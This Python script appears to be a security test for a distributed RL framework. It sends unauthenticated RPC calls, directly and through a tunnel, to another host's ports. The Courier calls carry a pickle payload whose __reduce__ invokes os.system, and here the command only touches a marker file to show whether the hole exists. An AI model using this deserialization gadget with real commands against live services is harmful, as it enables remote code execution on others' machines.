"""Attacks: `unauthenticated_peer.py SUBSTRATE MARKER HOST TUNNEL_PORT PORT...`, on another host.

It sends a call to each port of the host, and the same through the host's tunnel, with another
program's credentials. Courier's calls would make a file there; builtin ones have a wrong key.
"""

import os
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

from distrl.programs.substrate import BUILTIN, rpc

METHODS = ("get_variables", "report", "state", "inference", "run")


class Payload:
    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple:
        return os.system, (self._command,)


def client_of(substrate: str, address: str) -> Any:
    if substrate == BUILTIN:
        return rpc.RpcClient(address, "of a stranger", timeout=1.0)
    import courier

    return courier.Client(address, call_timeout=1.0, wait_for_ready=False)


def send(substrate: str, address: str, command: str) -> None:
    payload = command if substrate == BUILTIN else unauthenticated_peer.Payload(command)
    for method in METHODS:
        client = client_of(substrate, address)
        try:
            getattr(client, method)(payload)
            print(address, method, "answered")
        except Exception as error:
            print(address, method, str(error)[:100])


if __name__ == "__main__":
    import unauthenticated_peer  # Courier cannot send a class of __main__

    from distrl.launch.network.credentials import make_credentials
    from distrl.launch.network.tunnel_process import end_tunnel, start_tunnel

    substrate, marker, host, tunnel_port, *ports = sys.argv[1:]
    folder = Path(tempfile.mkdtemp(prefix="peer-"))
    forwards = {
        str(folder / port): (host, int(tunnel_port), int(port)) for port in [*ports, tunnel_port]
    }
    import socket

    with socket.create_server(("127.0.0.1", 0)) as unused:
        tunnel = start_tunnel(unused, make_credentials(), {}, forwards)
    deadline = time.monotonic() + 10.0
    while not all(Path(path).exists() for path in forwards) and time.monotonic() < deadline:
        time.sleep(0.05)
    for port in [*ports, tunnel_port]:
        send(substrate, f"{host}:{port}", f"touch {marker}.{port}")
        send(substrate, f"unix:{folder}/{port}", f"touch {marker}.{port}.tunnel")
    end_tunnel(tunnel)
    print("done", flush=True)
    os._exit(0)
